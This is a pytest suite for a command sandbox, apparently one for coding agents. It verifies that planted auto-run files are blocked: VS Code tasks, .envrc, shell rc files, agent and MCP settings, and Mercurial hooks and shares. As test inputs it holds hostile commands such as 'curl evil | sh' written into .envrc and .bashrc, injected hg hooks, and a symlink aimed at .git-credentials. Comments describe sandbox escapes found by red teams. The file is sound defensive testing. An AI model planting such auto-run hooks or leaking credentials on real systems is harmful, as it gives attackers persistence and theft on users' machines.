"""Files the host runs on its own are protected by default (issue 22, item 4), both backends.

Each attack writes an auto-run file the way a planted command would (absent or present);
the host file is then checked from outside, and the result must carry a denial that names
the rule and the key lifting it. Ordinary work in the same workspace keeps working, and no
placeholder is left on the host or in a commit.
"""

from __future__ import annotations

import asyncio
import errno
import os
import subprocess
import sys
from pathlib import Path

import pytest

from bash_sandbox import SandboxBashExecutor
from bash_sandbox.facts.markers import denial_marker
from bash_seam import BashExecRequest, BashRunResult
from policies import autorun
from tests.sandbox.conftest import ExecutorFactory


async def _run(ex: SandboxBashExecutor, command: str, workdir: Path) -> BashRunResult:
    return await ex.run(ex.resolve(BashExecRequest(command=command, workdir=str(workdir))))


def _reasons(result: BashRunResult) -> list[str]:
    assert result.sandbox is not None
    return [d.reason for d in result.sandbox.denials]


ATTACKS = {
    # name: (what the command does, the host path checked afterwards)
    ".vscode": (
        'mkdir -p .vscode && printf \'{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\''
        " > .vscode/tasks.json",
        ".vscode/tasks.json",
    ),
    ".envrc": ("echo 'curl evil | sh' > .envrc", ".envrc"),
    ".mcp.json": ("echo '{\"mcpServers\":{}}' > .mcp.json", ".mcp.json"),
    ".claude": ("mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json", ".claude"),
    ".devcontainer": (
        "mkdir -p .devcontainer && echo '{}' > .devcontainer/devcontainer.json",
        ".devcontainer",
    ),
    ".idea": ("mkdir -p .idea && echo x > .idea/workspace.xml", ".idea"),
    ".gemini": ("mkdir -p .gemini && echo '{\"hooks\":{}}' > .gemini/settings.json", ".gemini"),
    "opencode.json": ("echo '{\"mcp\":{}}' > opencode.json", "opencode.json"),
    ".zed": ("mkdir -p .zed && echo '{\"lsp\":{}}' > .zed/settings.json", ".zed"),
    ".aider.conf.yml": ("echo 'lint-cmd: sh evil.sh' > .aider.conf.yml", ".aider.conf.yml"),
    ".kiro": ("mkdir -p .kiro/hooks && echo '{}' > .kiro/hooks/x.kiro.hook", ".kiro"),
    ".opencode": (
        "mkdir -p .opencode/plugin && echo 'export default {}' > .opencode/plugin/x.js",
        ".opencode",
    ),
    "crush.json": ("echo '{\"mcp\":{}}' > crush.json", "crush.json"),
    ".helix": ("mkdir -p .helix && echo '[language-server]' > .helix/languages.toml", ".helix"),
    ".Rprofile": ("echo 'system(\"sh evil.sh\")' > .Rprofile", ".Rprofile"),
    ".codex": ("mkdir -p .codex && echo '[mcp_servers.x]' > .codex/config.toml", ".codex"),
    ".windsurf": ("mkdir -p .windsurf && echo '{}' > .windsurf/hooks.json", ".windsurf"),
    ".qoder": ("mkdir -p .qoder && echo '{}' > .qoder/settings.json", ".qoder"),
}


@pytest.mark.parametrize("name", sorted(ATTACKS))
async def test_missing_autorun_file_cannot_be_created(
    make_executor: ExecutorFactory, workspace: Path, name: str
) -> None:
    command, checked = ATTACKS[name]
    ex = make_executor(mode="workspace-write")
    result = await _run(ex, command, workspace)
    assert result.exit_code != 0
    # From the host: nothing there, not even the placeholder once the command is done.
    assert not os.path.lexists(workspace / checked)
    assert not os.path.lexists(workspace / name)
    reasons = _reasons(result)
    assert any(name in r and "unprotected_paths" in r for r in reasons), reasons


async def test_existing_vscode_settings_edit_is_refused_with_a_clear_marker(
    make_executor: ExecutorFactory, workspace: Path
) -> None:
    settings = workspace / ".vscode" / "settings.json"
    settings.parent.mkdir()
    settings.write_text('{"editor.tabSize": 4}\n')
    ex = make_executor(mode="workspace-write")
    result = await _run(
        ex,
        'echo \'{"python.defaultInterpreterPath": "./evil"}\' > .vscode/settings.json; '
        "touch .vscode/launch.json",
        workspace,
    )
    assert settings.read_text() == '{"editor.tabSize": 4}\n'
    assert not (workspace / ".vscode" / "launch.json").exists()
    assert result.sandbox is not None
    denial = next(d for d in result.sandbox.denials if d.target.endswith("settings.json"))
    marker = denial_marker(denial, result.sandbox.mode, result.sandbox.network)
    assert "VS Code" in marker and "unprotected_paths" in marker, marker


async def test_unprotected_paths_lifts_one_name_only(
    make_executor: ExecutorFactory, workspace: Path
) -> None:
    ex = make_executor(mode="workspace-write", unprotected_paths=(".vscode",))
    result = await _run(ex, "mkdir -p .vscode && echo ok > .vscode/settings.json", workspace)
    assert result.exit_code == 0, result.stderr.text
    assert (workspace / ".vscode" / "settings.json").read_text() == "ok\n"
    refused = await _run(ex, "echo x > .envrc", workspace)
    assert refused.exit_code != 0 and not (workspace / ".envrc").exists()


async def test_shell_rc_files_are_protected_where_they_exist_and_in_a_home(
    make_executor: ExecutorFactory,
    workspace: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    (workspace / ".bashrc").write_text("# mine\n")
    ex = make_executor(mode="workspace-write")
    result = await _run(ex, "echo 'curl evil|sh' >> .bashrc; echo ok > .zshrc", workspace)
    assert (workspace / ".bashrc").read_text() == "# mine\n"
    # A project's missing .zshrc runs nothing: no placeholder, creating it works.
    assert (workspace / ".zshrc").read_text() == "ok\n"
    assert any(".bashrc" in r for r in _reasons(result))
    # A writable root that is a home: missing start-up files are held too.
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    in_home = make_executor(mode="workspace-write", workspace_root=str(home))
    planted = await _run(in_home, "echo evil > .profile; echo evil > .zshenv", home)
    assert planted.exit_code != 0
    assert not (home / ".profile").exists() and not (home / ".zshenv").exists()


async def test_ordinary_work_is_unaffected_and_leaves_no_placeholder(
    make_executor: ExecutorFactory, workspace: Path
) -> None:
    (workspace / "main.py").write_text("print('v1')\n")
    ex = make_executor(mode="workspace-write")
    env = "GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@e GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@e"
    result = await _run(
        ex,
        "sed -i s/v1/v2/ main.py && npm init -y >/dev/null && git init -q && "
        f"git add -A && {env} git commit -qm init && git status --porcelain",
        workspace,
    )
    assert result.exit_code == 0, result.stderr.text
    assert result.stdout.text == ""  # no placeholder shows as untracked
    assert (workspace / "main.py").read_text() == "print('v2')\n"
    assert (workspace / "package.json").exists()
    files = subprocess.run(
        ["git", "-C", str(workspace), "ls-files"], capture_output=True, text=True, check=True
    ).stdout.split()
    assert sorted(files) == ["main.py", "package.json"]
    leftovers = [n for n in os.listdir(workspace) if n in autorun.DEFAULT_AUTORUN_PATHS]
    assert leftovers == []


def test_defaults_and_the_opt_out_key(tmp_path: Path) -> None:
    from policies import DEFAULT_PROTECTED_PATHS, SandboxPolicy, SandboxPolicyService

    assert {".vscode", ".envrc", ".mcp.json", ".claude", ".bashrc"} <= set(DEFAULT_PROTECTED_PATHS)
    policy = SandboxPolicy(
        mode="workspace-write",  # type: ignore[arg-type]
        workspace_root=str(tmp_path),
        unprotected_paths=(".vscode/",),
    )
    assert ".vscode" not in policy.protected_paths and ".git/hooks" in policy.protected_paths
    # Stable through a dump and reload (what a per-call policy over MCP goes through).
    assert SandboxPolicy.model_validate(policy.model_dump()) == policy
    service = SandboxPolicyService("workspace-write", tmp_path, unprotected_paths=[".envrc"])
    assert ".envrc" not in service.resolve().protected_paths
    assert autorun.autorun_reason(".envrc") == "direnv runs it on entering the directory"


async def test_a_command_outliving_the_one_that_made_the_placeholders_keeps_running(
    make_executor: ExecutorFactory, workspace: Path
) -> None:
    # The first command makes the missing auto-run names' placeholders; a second one finds
    # them existing. When the first ends, the placeholders must stay for the second: removing
    # them would end its covers, and the cover watch would stop it (it did, before each
    # command held the existing placeholders too).
    ex = make_executor(mode="workspace-write")
    gate = workspace / "go"
    os.mkfifo(gate)
    first = await ex.start(ex.resolve(BashExecRequest(command="true", workdir=str(workspace))))
    second = await ex.start(
        ex.resolve(
            BashExecRequest(command="echo up > up; : < go; echo done > out", workdir=str(workspace))
        )
    )
    await first.wait()
    for _ in range(200):
        if (workspace / "up").exists():
            break
        await asyncio.sleep(0.05)
    assert (workspace / ".vscode").is_dir()  # still held by the second command
    writer = -1
    for _ in range(200):  # until the second command has the FIFO open for reading
        try:
            writer = os.open(gate, os.O_WRONLY | os.O_NONBLOCK)
            break
        except OSError as exc:
            if exc.errno != errno.ENXIO:
                raise
            await asyncio.sleep(0.05)
    assert writer >= 0, "the second command never waited on the FIFO"
    try:
        await asyncio.wait_for(second.wait(), timeout=60)
    finally:
        os.close(writer)
    assert second.exit_code == 0, (second.signal, second.sandbox)
    assert (workspace / "out").read_text() == "done\n"
    assert second.sandbox is not None and not any("stopped" in w for w in second.sandbox.warnings)
    await ex.aclose()
    assert not (workspace / ".vscode").exists()  # nothing left once nobody holds it


async def test_placeholders_stay_out_of_the_commands_git_and_its_excludes_stay_the_users(
    make_executor: ExecutorFactory,
    workspace: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # `git stash -u` cleans untracked directories: on the placeholders (mount points) it
    # failed halfway, the untracked files already in the stash. The command's git reads the
    # placeholders from the repository's `info/exclude` as it sees it; the user's own
    # excludes (here global, through an include) still apply, so `git add -A` never commits
    # what they keep out (an earlier way, `core.excludesFile` overridden, lost them).
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text("[include]\n\tpath = ~/.gitconfig.local\n")
    (home / ".gitconfig.local").write_text("[core]\n\texcludesFile = ~/.ignore-global\n")
    (home / ".ignore-global").write_text("*.log\nsecret.env\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    env = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@e", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@e", "HOME": str(home)}  # fmt: skip
    subprocess.run(["git", "init", "-q", str(workspace)], check=True, env={**os.environ, **env})
    exclude = workspace / ".git" / "info" / "exclude"
    before = exclude.read_bytes()
    (workspace / "notes.txt").write_text("hello\n")
    subprocess.run(["git", "-C", str(workspace), "add", "notes.txt"], check=True)
    subprocess.run(
        ["git", "-C", str(workspace), "commit", "-qm", "one"], check=True,
        env={**os.environ, **env},
    )  # fmt: skip
    ex = make_executor(mode="workspace-write")
    result = await _run(
        ex,
        "set -e; echo wip > untracked.txt; echo x > build.log; echo k > secret.env; "
        "git status --porcelain; git stash -u -q; ls; git stash pop -q; "
        "git clean -fdq -e untracked.txt; git add -A; git status --porcelain; echo done",
        workspace,
    )
    assert result.exit_code == 0, result.stderr.text
    lines = result.stdout.text.splitlines()
    assert lines[0] == "?? untracked.txt", lines  # no placeholder, no *.log, no secret.env
    assert lines[-2:] == ["A  untracked.txt", "done"], lines
    # The host: the stash popped back, its own excludes file untouched, no placeholder kept.
    assert (workspace / "untracked.txt").read_text() == "wip\n"
    assert exclude.read_bytes() == before
    staged = subprocess.run(
        ["git", "-C", str(workspace), "diff", "--cached", "--name-only"],
        capture_output=True, text=True, check=True,
    ).stdout.split()  # fmt: skip
    assert staged == ["untracked.txt"]


async def test_the_excludes_stand_in_never_follows_a_link_a_running_command_left(
    make_executor: ExecutorFactory,
    workspace: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # A background command made the workspace's repository and linked its `info/exclude`
    # to a secret; the next spawn read it for the stand-in and showed it to the command.
    home = tmp_path / "home"
    home.mkdir()
    (home / ".git-credentials").write_text("TOP-SECRET-1234\n")  # a default deny_read
    monkeypatch.setenv("HOME", str(home))
    ex = make_executor(mode="workspace-write")
    gate = workspace / "gate"
    os.mkfifo(gate)
    bg = await ex.start(
        ex.resolve(
            BashExecRequest(
                command=f"git init -q . && ln -sf {home}/.git-credentials .git/info/exclude && "
                "echo ready > ready && read x < gate",
                workdir=str(workspace),
            )
        )
    )
    for _ in range(400):
        if (workspace / "ready").exists():
            break
        await asyncio.sleep(0.05)
    result = await _run(ex, "cat .git/info/exclude; echo end", workspace)
    assert "TOP-SECRET" not in result.stdout.text + result.stderr.text
    assert result.stdout.text.endswith("end\n"), result.stderr.text
    with open(gate, "w") as fh:
        fh.write("go\n")
    await asyncio.wait_for(bg.wait(), 30)


def _host_hg(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """The host's real Mercurial (a test dependency, beside this interpreter)."""
    hg = Path(sys.executable).parent / "hg"
    assert hg.exists(), "mercurial is a test dependency (pyproject's test extra)"
    return subprocess.run(
        [str(hg), *args], cwd=cwd, capture_output=True, text=True, timeout=120, check=False
    )


_HELD_VCS_NAMES = sorted(set(autorun.VCS_CONFIG_PATHS) - autorun.FILE_ONLY_PATHS)


@pytest.mark.parametrize("config", _HELD_VCS_NAMES)
@pytest.mark.parametrize("present", [True, False])
async def test_another_vcs_repositorys_config_is_protected_only_in_its_repository(
    make_executor: ExecutorFactory, workspace: Path, tmp_path: Path, config: str, present: bool
) -> None:
    # `.hg/hgrc` of a Mercurial repository in the workspace: a command's `[hooks]` there ran
    # in the host's `hg status` (an IDE polls it on open); then `.hg/hgrc-not-shared`, which
    # hg reads too, and a share's `requires` and `sharedpath` (red teams).
    marker = tmp_path / "pwned"
    first = config.split("/", maxsplit=1)[0]
    top = workspace / (".hg" if first == ".hgsub" else first)  # the repository's directory
    if top.name == ".hg":
        assert _host_hg("init", str(workspace), cwd=tmp_path).returncode == 0
    target = workspace / config
    target.parent.mkdir(parents=True, exist_ok=True)
    (top / "store").mkdir(exist_ok=True)
    before = target.read_text() if target.exists() else "[ui]\nusername = t\n"
    if present:
        target.write_text(before)
    else:
        target.unlink(missing_ok=True)
    ex = make_executor(mode="workspace-write")
    hook = f"[hooks]\\npre-status = touch {marker}\\n"
    result = await _run(ex, f"printf '{hook}' >> {config}; echo ok > work.txt", workspace)
    assert result.exit_code == 0, result.stderr.text  # other work goes on
    assert [d.target for d in result.sandbox.denials] == [str(target)]  # type: ignore[union-attr]
    assert "unprotected_paths lifts it" in _reasons(result)[0]
    # From the host: the config is the user's, no placeholder is left, no hook ran.
    assert (target.read_text() if present else target.exists()) == (before if present else False)
    assert (workspace / "work.txt").read_text() == "ok\n"
    if top.name == ".hg":
        _host_hg("status", cwd=workspace)
    assert not marker.exists()


async def test_a_mercurial_repository_cannot_be_made_a_share_of_the_commands_own(
    make_executor: ExecutorFactory, workspace: Path, tmp_path: Path
) -> None:
    # hg 7 repositories are share-safe: `shared` in `.hg/requires` and a `.hg/sharedpath`
    # naming a copy the command made, with hooks in its `hgrc`, ran them in the host's next
    # `hg status` of the user's own repository (a red team's).
    marker = tmp_path / "pwned"
    assert _host_hg("init", str(workspace), cwd=tmp_path).returncode == 0
    (workspace / "a").write_text("a\n")
    assert _host_hg("commit", "-A", "-q", "-u", "t", "-m", "a", cwd=workspace).returncode == 0
    requires = (workspace / ".hg" / "requires").read_bytes()
    ex = make_executor(mode="workspace-write")
    attack = (
        f"mkdir -p .x && cp -r .hg .x/.hg && printf '[hooks]\\npre-status = touch {marker}\\n'"
        ' > .x/.hg/hgrc; echo shared >> .hg/requires; echo "$PWD/.x/.hg" > .hg/sharedpath;'
        " printf '[hooks]\\npre-status = touch %s\\n' "
        f"{marker} > .hg/hgrc-not-shared; echo ok > work.txt"
    )
    result = await _run(ex, attack, workspace)
    assert result.exit_code == 0 and result.sandbox is not None, result.stderr.text
    refused = {d.target for d in result.sandbox.denials}
    assert {str(workspace / ".hg" / n) for n in ("requires", "sharedpath")} <= refused
    assert (workspace / ".hg" / "requires").read_bytes() == requires
    assert not (workspace / ".hg" / "sharedpath").exists()
    assert not (workspace / ".hg" / "hgrc-not-shared").exists()
    status = _host_hg("status", cwd=workspace)
    assert status.returncode == 0, status.stderr
    assert not marker.exists()
    # Ordinary Mercurial work goes on where the tool is visible to the command.
    hg = Path(sys.executable).parent / "hg"
    if str(hg.resolve()).startswith("/tmp/"):
        return  # the command's /tmp is its own: a checkout there cannot run its hg
    work = await _run(
        ex,
        f"echo b >> a && {hg} commit -q -u t -m b && {hg} bookmark bm && {hg} log -q | wc -l",
        workspace,
    )
    assert work.exit_code == 0, work.stderr.text
    assert work.stdout.text.strip() == "2"
    assert work.sandbox is not None and work.sandbox.denials == ()


@pytest.mark.parametrize("present", [True, False])
async def test_a_file_the_users_hgrc_includes_from_the_workspace_stays_read_only(
    make_executor: ExecutorFactory, workspace: Path, tmp_path: Path, present: bool
) -> None:
    # `%include ../.hgrc-shared` in the user's `.hg/hgrc`: hg reads the included file as
    # config, and a missing one is skipped silently, so a command could make it.
    marker = tmp_path / "pwned"
    assert _host_hg("init", str(workspace), cwd=tmp_path).returncode == 0
    (workspace / ".hg" / "hgrc").write_text("[ui]\nusername = t\n%include ../team/hgrc\n")
    shared = workspace / "team" / "hgrc"
    shared.parent.mkdir()
    if present:
        shared.write_text("[ui]\nverbose = false\n")
    ex = make_executor(mode="workspace-write")
    hook = f"[hooks]\\npre-status = touch {marker}\\n"
    result = await _run(ex, f"printf '{hook}' >> team/hgrc; echo ok > work.txt", workspace)
    assert result.exit_code == 0 and result.sandbox is not None, result.stderr.text
    assert [d.target for d in result.sandbox.denials] == [str(shared)]
    assert "Mercurial reads it as config" in result.sandbox.denials[0].reason
    assert (shared.read_text() if present else shared.exists()) == (
        "[ui]\nverbose = false\n" if present else False
    )
    status = _host_hg("status", cwd=workspace)
    assert status.returncode == 0, status.stderr
    assert not marker.exists()


@pytest.mark.parametrize(
    "layout", ["repository above", "byte order mark", "HGRCPATH", "HGRCPATH directory"]
)
async def test_an_hg_config_a_root_reaches_stays_read_only_however_hg_finds_it(
    make_executor: ExecutorFactory,
    workspace: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    layout: str,
) -> None:
    # Round 13: the hgrc of a repository the workspace lies in, an include after a UTF-8
    # byte order mark, and a project file `HGRCPATH` names: each stayed writable and the
    # host's `hg status` ran a command's hook.
    marker = tmp_path / "pwned"
    if layout == "repository above":
        repo, root = tmp_path / "proj", tmp_path / "proj" / "sub"
        root.mkdir(parents=True)
        target = root / "team.rc"
        assert _host_hg("init", str(repo), cwd=tmp_path).returncode == 0
        (repo / ".hg" / "hgrc").write_text("%include ../sub/team.rc\n")
    elif layout == "byte order mark":
        repo = root = workspace
        target = root / "team.rc"
        assert _host_hg("init", str(repo), cwd=tmp_path).returncode == 0
        (repo / ".hg" / "hgrc").write_bytes(b"\xef\xbb\xbf%include ../team.rc\r\n")
    elif layout == "HGRCPATH":
        repo = root = workspace
        target = root / "hgrc.project"
        assert _host_hg("init", str(repo), cwd=tmp_path).returncode == 0
        monkeypatch.setenv("HGRCPATH", str(target))
    else:  # a directory: hg reads every *.rc in it, a new one too (round 14)
        repo = root = workspace
        (root / "hgrc.d").mkdir()
        target = root / "hgrc.d" / "new.rc"
        assert _host_hg("init", str(repo), cwd=tmp_path).returncode == 0
        monkeypatch.setenv("HGRCPATH", str(root / "hgrc.d"))
        ex = make_executor(mode="workspace-write", workspace_root=str(root))
        hook = f"[hooks]\\npre-status = touch {marker}\\n"
        made = await _run(ex, f"printf '{hook}' > hgrc.d/new.rc; echo ok > work.txt", root)
        assert made.sandbox is not None and (root / "work.txt").exists(), made.stderr.text
        assert not target.exists()
        _host_hg("status", cwd=repo)
        assert not marker.exists()
        return
    target.write_text("[ui]\nusername = t\n")
    ex = make_executor(mode="workspace-write", workspace_root=str(root))
    hook = f"[hooks]\\npre-status = touch {marker}\\n"
    result = await _run(ex, f"printf '{hook}' >> {target.name}; echo ok > work.txt", root)
    assert result.sandbox is not None and (root / "work.txt").exists(), result.stderr.text
    assert [d.target for d in result.sandbox.denials] == [str(target)]
    assert target.read_text() == "[ui]\nusername = t\n"
    _host_hg("status", cwd=repo)
    assert not marker.exists()


@pytest.mark.parametrize("workspace_is", ["secondary", "main"])
async def test_a_jujutsu_workspaces_repo_file_is_protected_and_its_repository_is_not(
    make_executor: ExecutorFactory, workspace: Path, tmp_path: Path, workspace_is: str
) -> None:
    # A secondary Jujutsu workspace's `.jj/repo` is a file naming the repository whose
    # config (pager, editors, tools) jj runs: held. The main workspace's is the repository
    # itself, which jj writes: not held.
    repo = workspace / ".jj" / "repo"
    if workspace_is == "secondary":
        main = tmp_path / "main" / ".jj" / "repo"
        main.mkdir(parents=True)
        repo.parent.mkdir()
        repo.write_text(str(main))
        attack = f"echo {tmp_path} > .jj/repo; echo ok > work.txt"
    else:
        (repo / "store").mkdir(parents=True)
        attack = "echo op > .jj/repo/store/op && echo ok > work.txt"
    before = repo.read_text() if repo.is_file() else None
    ex = make_executor(mode="workspace-write")
    result = await _run(ex, attack, workspace)
    assert result.exit_code == 0 and result.sandbox is not None, result.stderr.text
    assert (workspace / "work.txt").read_text() == "ok\n"
    if workspace_is == "secondary":
        assert [d.target for d in result.sandbox.denials] == [str(repo)]
        assert repo.read_text() == before
    else:
        assert result.sandbox.denials == ()
        assert (repo / "store" / "op").read_text() == "op\n"


async def test_no_vcs_directory_is_made_where_there_is_no_such_repository(
    make_executor: ExecutorFactory, workspace: Path
) -> None:
    ex = make_executor(mode="workspace-write")
    result = await _run(ex, "ls -a", workspace)
    assert result.exit_code == 0
    listed = set(result.stdout.text.split())
    assert not listed & {".hg", ".jj", ".sl"}
    assert not any((workspace / name).exists() for name in (".hg", ".jj", ".sl"))


async def test_git_clean_fdx_passes_over_the_held_names_and_removes_the_rest(
    make_executor: ExecutorFactory, workspace: Path
) -> None:
    # Each missing auto-run name is an empty directory held by a mount while the command
    # runs: `git clean -fdx` failed on every one (EBUSY) and exited 1, so `git clean -fdx &&
    # make` never built (a usability pass). Their removal is answered as done, nothing done.
    subprocess.run(["git", "init", "-q", str(workspace)], check=True, timeout=30)
    (workspace / ".vscode").mkdir()  # the user's own, committed
    (workspace / ".vscode" / "settings.json").write_text("{}\n")
    git = ["git", "-C", str(workspace), "-c", "user.name=t", "-c", "user.email=t@e"]
    subprocess.run([*git, "add", "."], check=True, timeout=30)
    subprocess.run([*git, "commit", "-qm", "settings"], check=True, timeout=30)
    ex = make_executor(mode="workspace-write")
    result = await _run(
        ex,
        "mkdir -p build && touch build/o && git clean -qfdx && echo built"
        " && rm -rf .envrc && echo again > .envrc",
        workspace,
    )
    assert result.stdout.text == "built\n", result.stderr.text
    assert "Device or resource busy" not in result.stderr.text
    assert result.exit_code != 0  # the write after the `rm` is refused, with its denial
    assert _reasons(result) and any(".envrc" in r for r in _reasons(result)), result.sandbox
    # From the host: the build output is gone, the user's settings stay, nothing is left.
    assert not (workspace / "build").exists()
    assert (workspace / ".vscode" / "settings.json").read_text() == "{}\n"
    assert not (workspace / ".envrc").exists()
    assert sorted(p.name for p in workspace.iterdir()) == [".git", ".vscode"]


async def test_a_trusted_mise_config_stays_read_only_and_a_missing_one_is_not_held(
    make_executor: ExecutorFactory, workspace: Path
) -> None:
    # mise runs a trusted config's `[env] _.source` and hooks when the user's shell enters
    # the directory, trusted by path: rewriting it ran the command's script there.
    config = workspace / "mise.toml"
    config.write_text('[env]\nNODE_ENV = "dev"\n')
    ex = make_executor(mode="workspace-write")
    result = await _run(
        ex, "printf '[env]\\n_.source = \"./evil.sh\"\\n' >> mise.toml; ls -a", workspace
    )
    assert [d.target for d in result.sandbox.denials] == [str(config)]  # type: ignore[union-attr]
    assert "mise runs" in _reasons(result)[0]
    assert config.read_text() == '[env]\nNODE_ENV = "dev"\n'
    # A missing one needs the user's trust first: no placeholder for it in the workspace.
    listed = result.stdout.text.split()
    assert not {".mise.toml", "mise.local.toml", ".mise"} & set(listed)


async def test_removing_the_users_own_protected_directory_is_refused_with_a_denial(
    make_executor: ExecutorFactory, workspace: Path
) -> None:
    # Only the spawn's own placeholders are answered as removed: the user's empty `.vscode`
    # was too, so its refused removal left no denial (a red team's).
    (workspace / ".vscode").mkdir()
    ex = make_executor(mode="workspace-write")
    result = await _run(ex, "rmdir .vscode", workspace)
    assert result.exit_code != 0
    assert result.sandbox is not None
    assert [(d.target, d.operation) for d in result.sandbox.denials] == [
        (str(workspace / ".vscode"), "rmdir")
    ]
    assert (workspace / ".vscode").is_dir()
